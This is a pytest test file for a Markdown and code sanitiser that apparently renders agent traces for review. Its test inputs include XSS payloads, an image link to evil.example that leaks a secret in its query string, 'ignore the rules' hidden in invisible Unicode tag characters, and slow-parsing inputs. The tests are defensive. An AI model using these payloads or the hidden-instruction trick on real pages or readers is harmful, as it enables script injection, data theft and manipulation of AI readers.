import html
import re
import sys
from collections.abc import Callable
from functools import partial
from time import process_time

import pytest

from reviewapp.traces.reader import sanitising


def to_text(rendered: str) -> str:
    """Return the text of HTML as a browser shows it."""
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


def test_it_formats_markdown() -> None:
    rendered = sanitising.render_markdown("# Plan\n\n1. **first**\n2. `second`\n")

    assert '<h1 dir="auto">Plan</h1>' in rendered
    assert "<strong>first</strong>" in rendered


def test_it_aligns_a_tables_cells_by_class() -> None:
    rendered = sanitising.render_markdown("|a|b|\n|-|-:|\n|1|2|\n")

    assert '<td class="right" dir="auto">2</td>' in rendered
    assert "style" not in rendered


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/p.png?q=secret)",
        "[click](javascript:alert(1))",
        "[click](data:text/html,hi)",
        "[click](https://evil.example)",
        "<https://evil.example>",
        '```"><img src=x>\ncode\n```',
        '[a](https://b.example "title onmouseover=alert(1)")',
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "&lt;img src=x&gt;",
    ],
)
@pytest.mark.parametrize(
    "render",
    [sanitising.render_markdown, sanitising.sanitise_text, sanitising.highlight_json, sanitising.highlight_code],
)
def test_it_renders_nothing_active(render: object, text: str) -> None:
    assert callable(render)
    rendered = render(text)

    assert not any(tag in rendered for tag in ("<script", "<img", "<a ", "<svg", "<iframe", " href=", ' src="'))


def test_it_shows_a_links_url_as_text() -> None:
    rendered = sanitising.render_markdown("See [the policy](https://shop.example/refunds).")

    assert 'the policy <span class="address">(https://shop.example/refunds)</span>.' in rendered


def test_it_shows_a_bare_url_once() -> None:
    assert sanitising.render_markdown("<https://shop.example>").count("shop.example") == 1


def test_it_describes_an_image_in_words() -> None:
    rendered = sanitising.render_markdown("![a chart](https://shop.example/c.png)")

    assert '<span class="inert">Image, not loaded: a chart' in rendered


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("pay\u202eecilA", "U+202E"),
        ("a\u200bb", "U+200B"),
        ("\x1b[31mred", "U+001B"),
        ("a\u2066b", "U+2066"),
        ("a\ufeffb", "U+FEFF"),
    ],
)
def test_it_makes_hidden_characters_visible(text: str, code: str) -> None:
    assert f'<span class="mark" title="{code}">{code}</span>' in sanitising.render_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "<soap:Body> and <dc:title>Tides</dc:title>",
        "Map<std::string, std::vector<int>>",
        r"\[x_1\] and \(\frac{a}{b}\)",
        r"^\d+\.\d+$ and C:\_t\!x",
        r"not \*bold\* \\ end",
        "&copy; A&nbsp;B &#x202e;",
        "[1]: https://lakes.example/depth",
        "def __init__(self)",
        "https://lakes.example/_a_/__b__",
        "a\\\nb",
    ],
)
def test_it_keeps_every_character(text: str) -> None:
    assert to_text(sanitising.render_markdown(text)) == text


def test_it_keeps_the_cells_that_a_tables_head_has_not() -> None:
    assert "2 | 3" in to_text(sanitising.render_markdown("|a|b|\n|-|-|\n|1|2|3|\n"))


def test_it_shows_a_links_title_and_the_caption_of_code() -> None:
    assert "(https://a.example Home)" in sanitising.render_markdown('[a](https://a.example "Home")')
    assert "py title=main.py" in sanitising.render_markdown("```py title=main.py\n1\n```")


def test_it_spells_out_text_hidden_in_tag_characters() -> None:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "ignore the rules")

    assert "hidden text: ignore the rules" in sanitising.sanitise_text("Hello" + hidden)


@pytest.mark.parametrize(
    "text", ["👩‍👩‍👧", "می‌خواهم", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "❤\ufe0f"]
)
def test_it_does_not_change_joiners_that_belong_to_the_text(text: str) -> None:
    assert sanitising.sanitise_text(text) == text


def test_it_shows_a_run_of_hidden_characters_as_one() -> None:
    assert sanitising.sanitise_text("\u200b" * 5_000).count("<span") == 1


def test_it_highlights_code_of_a_known_language() -> None:
    assert '<span class="k">def</span>' in sanitising.highlight_code("def f(): pass", "python")


def test_it_shows_code_of_an_unsupported_language_plain() -> None:
    assert sanitising.highlight_code("a < b", "brainfuck") == "a &lt; b"


def test_it_keeps_code_whole() -> None:
    assert sanitising.highlight_code("a\n\n  b", "text") == "a\n\n  b"


def test_it_breaks_json_into_lines_and_keeps_its_numbers() -> None:
    rendered = sanitising.highlight_json('{"a":1.0,"b":[]}')

    assert rendered.count("\n") == 3
    assert '<span class="mi">1.0</span>' in rendered


def test_it_does_not_change_invalid_json() -> None:
    assert sanitising.highlight_json('{"a": <b>') == "{&quot;a&quot;: &lt;b&gt;"


def test_it_counts_omitted_characters() -> None:
    assert "1 more character not shown" in sanitising.sanitise_text("x" * (sanitising.SHOW_LIMIT + 1))


@pytest.mark.parametrize(
    "text",
    [
        "![" * 7_500,
        "**a " * 7_500,
        "```java\na \n```\n" * 2_000,
        ">" * 30_000,
        "|" * 15_000,
        "x" * 4_000_000,
        "[a",
        "\u200bx" * 15_000,
    ],
)
def test_it_renders_texts_crafted_to_be_slow_in_time(text: str) -> None:
    start = process_time()

    assert sanitising.render_markdown(text)
    assert process_time() - start < 5


def test_it_stops_highlighting_code_crafted_to_be_slow() -> None:
    start = process_time()

    assert sanitising.highlight_code("a " * 25_000, "java").count("a") >= 25_000
    assert process_time() - start < 3


def test_it_keeps_the_numbers_of_a_list_as_written() -> None:
    rendered = sanitising.render_markdown("1. one\n5. five\n8. eight")
    assert [number in rendered for number in ('value="1"', 'value="5"', 'value="8"')] == [True, True, True]


def test_it_keeps_line_breaks() -> None:
    assert "one<br>" in sanitising.render_markdown("one\ntwo")


@pytest.mark.parametrize(
    "piece",
    ["![", "[", "[\n", "|\n|-\n", "a|b\n-|-\n", ">- a\n", "- a\n", "a\n", "_*", "[a](", "[a]: x\n", "> > - a\n", "`a"],
)
def test_it_parses_markdown_in_steps_in_proportion_to_the_text(piece: str) -> None:
    texts = [(piece * size)[:size] for size in SIZES]
    short, long = [_count_calls(partial(sanitising.render_markdown, text)) for text in texts]
    assert long < 2.3 * short


def test_it_shows_a_text_with_too_much_markdown_plain() -> None:
    budget = sanitising.FormatBudget()
    rendered = sanitising.render_markdown("![" * 14_000, budget)
    assert rendered.endswith("plain text because it has too much Markdown.</p>")
    assert rendered.count("![") == 14_000
    assert budget.steps == sanitising.PAGE_STEPS - sanitising.TEXT_STEPS


def test_it_formats_the_texts_of_a_page_within_one_budget() -> None:
    budget = sanitising.FormatBudget()
    calls = [_count_calls(partial(sanitising.render_markdown, "![" * 14_000, budget)) for _ in range(7)]
    assert budget.steps == 0
    assert max(calls[5:]) < calls[0] / 20
    assert "because this page has too much Markdown" in sanitising.render_markdown("**a**", budget)
    assert "<strong>" in sanitising.render_markdown("**a**")


def test_it_takes_few_steps_for_prose() -> None:
    budget = sanitising.FormatBudget()
    sanitising.render_markdown(
        "# Plan\n\n- **Refund** the [order](https://shop.example), then `close` it.\n" * 100, budget
    )
    assert budget.steps > 0.9 * sanitising.PAGE_STEPS


SIZES = (4_000, 8_000)


def _count_calls(function: Callable[[], object]) -> int:
    """Count the calls of Python functions."""
    count = 0

    def profile(_: object, event: str, __: object) -> None:
        nonlocal count
        count += event == "call"

    sys.setprofile(profile)
    try:
        function()
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize(
    "text",
    [
        "Let $a_1 * b_2 * c_3$ be.",
        r"\(x_1 < y_2\)",
        r"\[\frac{a_1}{b_1}\]",
        "$$\na_1 * b_1\n= c * d\n$$",
        "As $x$ grows",
    ],
)
def test_it_shows_a_formula_as_typed_in_a_box(text: str) -> None:
    rendered = sanitising.render_markdown(text)
    assert 'class="math' in rendered
    assert "<em>" not in rendered
    assert to_text(rendered) == text


@pytest.mark.parametrize(
    "text", ["It costs $5 and $10.", "from $5-$10", "$HOME and $PATH", "a $ b_c $ d", "US$ 5, A$ 6"]
)
def test_it_takes_no_prices_for_a_formula(text: str) -> None:
    assert "math" not in sanitising.render_markdown(text)


def test_it_shows_a_task_list_as_boxes() -> None:
    assert to_text(sanitising.render_markdown("- [ ] open\n- [x] done\n- [x](y)")).startswith("☐ open\n☑ done\nx")


def test_it_raises_the_numbers_of_footnotes_and_drops_none() -> None:
    rendered = sanitising.render_markdown("So it is[^1], [^a-z] is not.\n\n[^1]: A note.\n\n[^2]: Alone.")
    assert "is<sup>1</sup>, [^a-z] is" in rendered
    assert to_text(rendered).endswith("1: A note.\n2: Alone.")


@pytest.mark.parametrize("unit", ["$", "$$ ", "\\(", "\\[ ", "[^a]: ", "$a_", "[^", "- [ ] "])
def test_it_reads_crafted_formulas_in_bounded_time(unit: str) -> None:
    start = process_time()
    sanitising.render_markdown(unit * (sanitising.MARKDOWN_LIMIT // len(unit)))
    assert process_time() - start < 5


def test_it_keeps_a_short_word_with_hyphens_in_a_cell_whole() -> None:
    rendered = sanitising.render_markdown("|a|b|c|\n|-|-:|-|\n|V-01|2026-11-30|well-known and long|\n")
    assert re.findall(r'<td class="([^"]*)"', rendered) == ["whole", "right whole"]
